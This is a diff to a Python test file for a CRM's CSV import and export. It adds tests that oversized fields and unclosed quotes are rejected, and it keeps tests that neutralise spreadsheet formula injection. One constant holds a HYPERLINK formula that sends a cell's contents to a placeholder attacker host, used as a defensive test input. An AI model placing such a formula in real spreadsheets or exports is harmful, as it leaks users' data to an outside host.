@@ -1,5 +1,5 @@
-"""CSV cells a spreadsheet would run (=, +, -, @, tab, CR first): through the services, the HTTP
-import and export, and `crm import` / `crm export`."""
+"""CSV cells a spreadsheet would run (=, +, -, @, tab, CR first) and fields too large to read:
+through the services, the HTTP import and export, and `crm import` / `crm export`."""
 
 from __future__ import annotations
 
@@ -7,7 +7,7 @@ import csv
 import io
 
 import pytest
-from sqlalchemy import select
+from sqlalchemy import func, select
 from typer.testing import CliRunner
 
 from store.import_formats import FORMULA_START, cell_value, neutralize
@@ -17,6 +17,7 @@ from tests.test_import_export import CsvFile
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&A2, "Click me")'
 PHONE = "+351912345678"  # E.164: what the CRM stores for "+351 912 345 678"
+BIG = 130 * 1024  # over the csv module's 128 KiB field limit
 
 
 @pytest.mark.parametrize(("raw", "value"), [
@@ -88,6 +89,30 @@ def test_a_tab_before_a_formula_is_not_taken_off_into_a_live_formula(session, ht
     assert row["title"] == "'=2+2" and row["first_name"].startswith("'")
 
 
+def test_a_field_over_128_kib_is_a_422_naming_line_and_column_and_nothing_is_imported(session, http) -> None:
+    w = f.world(session)
+    admin = f.api(session, http, w.admin)
+    upload = CsvFile("First Name", "Last Name", "Email", "Notes")
+    upload.row("Ines", "Duarte", "ines@borealis.example", "fine")
+    upload.row("Marco", "Rossi", "marco@borealis.example", "x" * BIG, mark="big")
+    before = session.scalar(select(func.count()).select_from(Contact))
+    for dry_run in ("true", "false"):
+        got = admin.post("/imports/contacts", params={"dry_run": dry_run},
+                         files={"file": ("c.csv", upload.data(), "text/csv")})
+        assert got.status_code == 422, got.text
+        body = got.json()
+        assert f"line {upload.lines['big']}, column 'Notes'" in body["message"] and "128 KiB" in body["message"]
+        assert (body["line"], body["column"]) == (upload.lines["big"], "Notes")
+    assert session.scalar(select(func.count()).select_from(Contact)) == before  # Ines was not kept either
+
+    # A quote that is never closed swallows the rest of the file into one field: the same answer.
+    unclosed = ('first_name,last_name,email\nAna,Silva,ana@x.example\nBob,"Builder,bob@x.example\n'
+                + "more,rows,here@x.example\n" * 6000).encode()
+    got = admin.post("/imports/contacts", files={"file": ("c.csv", unclosed, "text/csv")})
+    assert got.status_code == 422 and "line 3, column 'last_name'" in got.json()["message"]
+    assert "never closed" in got.json()["message"]
+
+
 runner = CliRunner()
 
 
@@ -129,3 +154,15 @@ def test_cli_export_then_import_into_another_workspace_round_trips_inert(cli_env
     crm("export", "contacts", "--workspace", "other", "--out", str(again))
     assert again.read_text(encoding="utf-8") == exported
 
+
+def test_cli_import_of_a_field_over_128_kib_says_line_and_column_and_imports_nothing(cli_env, tmp_path) -> None:
+    crm("setup", "--no-demo")
+    crm("user", "add", "sam@acme.example", "--name", "Sam", "--role", "admin")
+    path = tmp_path / "big.csv"
+    upload = CsvFile("First Name", "Last Name", "Email", "Notes")
+    upload.row("Ines", "Duarte", "ines@borealis.example", "fine")
+    upload.row("Marco", "Rossi", "marco@borealis.example", "x" * BIG, mark="big")
+    path.write_bytes(upload.data())
+    out = crm("import", "contacts", str(path), code=1)
+    assert f"line {upload.lines['big']}, column 'Notes'" in " ".join(out.split())
+    assert "ines@borealis.example" not in crm("export", "contacts")
